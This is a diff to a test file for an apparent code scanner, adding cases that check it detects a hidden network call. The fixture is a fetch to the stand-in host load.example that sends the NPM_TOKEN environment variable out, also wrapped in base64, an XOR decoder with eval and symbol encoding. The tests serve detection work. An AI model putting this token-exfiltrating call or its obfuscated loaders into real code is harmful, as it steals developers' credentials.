@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { readCodeFile } from '../../src/profiles/code-file.ts';
+import { spellForEval, spellInSymbols } from '../support/symbols.ts';
 
 const inner = "fetch('https://load.example/x', { body: process.env.NPM_TOKEN });";
 const base64 = Buffer.from(inner).toString('base64');
@@ -25,6 +26,8 @@ describe('text that is run as code', () => {
       'a decoder of the file',
       `\nfunction d(list) { let text = ''; for (const one of list) text += String.fromCharCode(one ^ 5); return text; } eval(d([${Array.from(inner, (one) => one.charCodeAt(0) ^ 5).join(',')}]));`,
     ],
+    ['symbols alone', `\n${spellInSymbols(inner)};`],
+    ['symbols alone by eval', `\n${spellForEval(inner)};`],
   ])('%s is code of the file', (_name, code) => {
     const facts = factsIn(code);
     expect(facts).toContain('network.connect load.example 2');
